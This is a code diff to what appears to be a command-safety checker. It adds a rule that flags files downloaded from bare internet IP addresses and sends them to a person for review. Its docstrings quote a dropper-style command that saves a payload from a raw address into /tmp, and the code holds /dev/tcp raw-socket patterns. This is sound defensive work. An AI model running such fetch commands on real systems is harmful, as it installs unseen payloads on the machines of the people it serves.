@@ -601,6 +601,36 @@ def _posted_to_raw_address(invocation: Invocation) -> Verdict | None:
     return None
 
 
+_RAW_ADDRESS_FETCH = lazy_compile(
+    r"^(?:(?:https?|ftp)://)?(?:[^/@?#]*@)?(?P<host>\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?/", re.IGNORECASE
+)
+"""A URL whose host is an IPv4 address and that names a path (``191.101.180.74/files/hpl64``)."""
+
+
+def _redirected_to(invocation: Invocation) -> tuple[str, ...]:
+    """The files standard output is redirected to (``curl URL > dlr``), as written."""
+    command = invocation.command
+    targets = (command.static(r.target) for r in command.redirects if r.op in (">", ">>", ">|"))
+    return tuple(t for t in targets if t)
+
+
+def _from_raw_address(invocation: Invocation, file: str) -> Verdict | None:
+    """``wget -q -O - 191.101.180.74/files/hpl64 > /tmp/hp_systemd``: a file fetched from a bare address.
+
+    Droppers fetch their payloads from a server that has only an address on the internet (no
+    name to take down, nothing a reader can recognise); a developer's downloads come from a named
+    host, or from their own network (``192.168.1.20``, ``127.0.0.1``). What the file is cannot be
+    seen, so a person is asked (:data:`UNJUDGED_SCRIPT`).
+    """
+    command = invocation.command
+    for word in invocation.args:
+        match = _RAW_ADDRESS_FETCH.match(command.render(word))
+        if match is not None and _on_the_internet(match["host"]):
+            why = f"saves {file} from {match['host']}, a bare internet address: a payload unseen"
+            return _verdict(UNJUDGED_SCRIPT, invocation, why)
+    return None
+
+
 _RAW_SOCKET = lazy_compile(r"^/dev/(?:tcp|udp)/([^/]+)/\d+$")
 _LOCAL_HOST = lazy_compile(r"^(?:localhost|127\.\d+\.\d+\.\d+|::1)$")
 
@@ -1747,10 +1777,16 @@ def judge(invocation: Invocation, home: str) -> Verdict | None:
                 return _verdict(
                     DOWNLOAD_RUN, invocation, f"downloads a program straight onto the PATH ({file})"
                 )
-    return (
+    found = (
         _upload(invocation, home)
         or _fetch_and_eval(invocation)
         or _package_from_url(invocation)
         or _go_module_direct(invocation)
         or _code_sends(invocation, home)
     )
+    if found is None and download is not None:
+        saved = download.files or (_redirected_to(invocation) if download.stdout else ())
+        saved = tuple(file for file in saved if not file.startswith("/dev/"))
+        if saved:
+            return _from_raw_address(invocation, saved[0])
+    return found
